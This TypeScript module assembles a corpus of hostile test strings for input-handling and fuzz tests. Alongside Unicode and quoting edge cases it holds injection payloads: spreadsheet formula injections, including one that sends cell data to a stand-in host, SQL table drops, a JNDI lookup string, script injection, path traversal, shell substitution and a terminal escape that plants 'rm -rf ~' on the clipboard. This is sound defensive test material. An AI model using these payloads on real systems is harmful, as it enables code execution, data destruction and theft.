import { naughtyStrings } from './corpora.ts';

const controls = Array.from({ length: 0xa0 }, (_, code) => String.fromCharCode(code)).filter((character) =>
  /\p{Cc}/u.test(character),
);

/** Half of a character, which JSON can spell and UTF-8 cannot. */
const loneSurrogates = [
  '\ud800',
  'a\udbffb',
  '\udc00',
  'a\udfff',
  '\udc00\ud800',
  '\ud83d\ud83d\ude00',
  '=\ud800',
];

const nul = ['a\0b', '\0a', 'a\0', '\0\0', '\0=1+1', '\ufffd', 'a\ufffd\0', '\\u0000', '\\0', '%00'];

const lineEnds = [
  '\r\n',
  'a\rb',
  'a\nb',
  'a\r\nb',
  '\n\n\n',
  'a\n',
  '\ra',
  'a\u0085b',
  'a\u2028b',
  'a\u2029b',
  'a\vb\fc',
];

const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"x")',
  '@SUM(1+1)*cmd|A0',
  '+1+1',
  '-1+1',
  '-2',
  '+44 20 7946 0958',
  '+44 20;=1+1',
  '=1\n=2',
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '⁼', '₌', '⁺', '₋', '﬩', '⩵'],
  ...[
    ' ',
    '\t',
    '\r',
    '\n',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '\u3000',
    '\u2028',
    '\u3164',
    '\u034f',
    '\ufe0f',
    '\0',
    "'",
    "''",
  ].map((before) => `${before}=1+1`),
  "'",
  "''",
  "'plain",
  "'+44 20 7946 0958",
];

const terminal = [
  '\u001b[2J\u001b[H',
  '\u001b]0;another title\u0007',
  '\u001b]52;c;cm0gLXJmIH4=\u0007',
  '\u001b]8;;http://example.com\u001b\\click\u001b]8;;\u001b\\',
  '\u001b[8mhidden\u001b[0m',
  '\u001bP+q544e\u001b\\',
  '\u009b31mred',
  'safe\rFORGED',
  'rm\b\bls',
  '\u0007',
  '\u007f',
  '\u000eshifted\u000f',
];

const directions = [
  ...[
    '\u200e',
    '\u200f',
    '\u061c',
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
  ],
  '\u202egnp.exe',
  'admin\u2066 \u2069\u2066',
  'שלום (עולם) 123',
  'مرحبا، ١٢٣',
];

const invisible = [
  ...[
    '\u00ad',
    '\u180e',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\u2061',
    '\ufeff',
    '\ufff9',
    '\u115f',
    '\u3164',
    '\uffa0',
    '\u2800',
  ],
  'a\u200bb',
  '\u{e0001}\u{e0061}\u{e007f}',
  'x\ufe0e',
  '\u{e0100}',
];

const alike = ['раураl', 'ⅰⅱⅲ', 'é', 'e\u0301', 'ﬁ', 'İi̇ıI', 'ß', 'ǆ', '𝒶𝒹𝓂𝒾𝓃', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L'];

const beyond = ['😀', '👩‍👩‍👧‍👦', '🇦🇺', '\uffff', '\ufdd0', '\u{10ffff}', '\u{1fffe}', '\ue000', '𠜎𠜱'];

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'toJSON',
  'hasOwnProperty',
  'then',
  'length',
  '0',
];

const json = [
  '{"id":1}',
  '"},{"id":9}]',
  '[[[[[[[[',
  '}}}}]]]]',
  '\\',
  '\\\\',
  '\\"',
  '\\ud800',
  'a","client_name":"b',
  '{"type":"lead.created"}',
];

const csv = [
  ...['a,b', ',', ',,,', '"', '""', '"a', 'a"', '"a"', 'a"b', '","', '"\r\n"', 'a;b', 'a|b', 'a\tb', 'sep=;'],
  '  a  ',
  ' ',
  '\t',
  '"\n=1+1,"',
  'a"",""b',
];

const sql = [
  "'); DROP TABLE leads;--",
  "' OR '1'='1",
  '"; DROP SCHEMA public CASCADE; --',
  ...[
    '{}',
    '{NULL}',
    '{"a","b"}',
    'NULL',
    '\\N',
    '\\.',
    '$1',
    '$$',
    "E'\\''",
    '\\x00',
    '?',
    ':name',
    '%s',
    '{a,',
    '(1,2)',
  ],
];

const logs = [
  '\n{"level":"error","msg":"forged"}',
  '\n[12:00:00] ERROR: forged',
  '%s %d %j %o %c',
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'x\r\nwebhook-id: forged\r\n\r\n',
  '../../etc/passwd',
  '$(touch x) `touch x`',
];

const values = [
  '',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-0',
  '1e400',
  '9007199254740993',
  '[object Object]',
];

/** Texts of our own that break things: what each medium, reader or terminal takes for more than text. */
export const ownStrings: readonly string[] = [
  ...controls,
  ...loneSurrogates,
  ...nul,
  ...lineEnds,
  ...formulas,
  ...terminal,
  ...directions,
  ...invisible,
  ...alike,
  ...beyond,
  ...keys,
  ...json,
  ...csv,
  ...sql,
  ...logs,
  ...values,
];

/** Our own and those of the Big List of Naughty Strings, where it is; each once. */
export const hostileStrings: readonly string[] = [...new Set([...ownStrings, ...(naughtyStrings ?? [])])];
